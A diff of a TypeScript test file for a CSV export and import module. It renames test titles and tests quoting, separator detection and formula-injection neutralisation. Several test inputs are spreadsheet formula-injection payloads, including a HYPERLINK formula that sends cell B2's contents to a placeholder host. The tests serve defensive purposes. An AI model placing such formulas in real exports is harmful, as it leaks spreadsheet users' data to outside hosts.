@@ -10,7 +10,7 @@ const lists = Object.values(contract).filter(
   (value): value is AnyResource => typeof value === 'object' && isResource(value),
 );
 
-it('writes what it can read again, under the mark that Excel needs', () => {
+it('a CSV file writes what it can read again, under the mark that Excel needs', () => {
   const table = [
     ['নাম', 'ঠিকানা'],
     ['করিম "কাকা"', 'বাড়ি ১,\nমধুখালী'],
@@ -24,7 +24,7 @@ it.each([
   ...['=1+1', '+8801712345678', '-5', '@SUM(A1)', '\tx', '\rx', '\uff1d1+1'],
   // A parser's pattern that ends at the first line lets this one through.
   '=HYPERLINK("http://x.example/?"&B2,\n"open")',
-])('makes %j harmless in a spreadsheet and reads it back as it was', (cell) => {
+])('a CSV file makes %j harmless in a spreadsheet and reads it back as it was', (cell) => {
   expect(writeCsv([[cell]])).toContain(`'${cell.replaceAll('"', '""')}`);
   expect(readCsv(writeCsv([[cell, 'ঠিক']]))).toEqual([[cell, 'ঠিক']]);
 });
@@ -32,7 +32,7 @@ it.each([
 const FORMULA = '=HYPERLINK("http://a.example/?"&B2,\n"open")';
 
 it.each(lists.map((list) => [list.path, list] as const))(
-  'exports no live formula of %s, whichever field holds it',
+  'a CSV file exports no live formula of %s, whichever field holds it',
   (_path, list) => {
     const plan = filePlan(list, fieldsOf(list));
     const row = Object.fromEntries(plan.columns.map(({ name }) => [name, FORMULA]));
@@ -43,7 +43,7 @@ it.each(lists.map((list) => [list.path, list] as const))(
   },
 );
 
-it('reads semicolons and tabs, any line end, and a last line without one', () => {
+it('a CSV file reads semicolons and tabs, any line end, and a last line without one', () => {
   expect(readCsv('ক;খ\r১;২\r৩;৪')).toEqual([
     ['ক', 'খ'],
     ['১', '২'],
@@ -55,7 +55,7 @@ it('reads semicolons and tabs, any line end, and a last line without one', () =>
   ]);
 });
 
-it('takes the separator of the table for that of the file, not one of a title above it', () => {
+it('a CSV file takes the separator of the table for that of the file, not one of a title above it', () => {
   expect(readCsv('কলেজ, যশোর\nনাম;রোল;শ্রেণি\nক;১;৬')).toEqual([
     ['কলেজ, যশোর'],
     ['নাম', 'রোল', 'শ্রেণি'],
@@ -63,6 +63,6 @@ it('takes the separator of the table for that of the file, not one of a title ab
   ]);
 });
 
-it('reads an empty file as no rows', () => {
+it('a CSV file reads an empty file as no rows', () => {
   expect(readCsv('')).toEqual([]);
 });
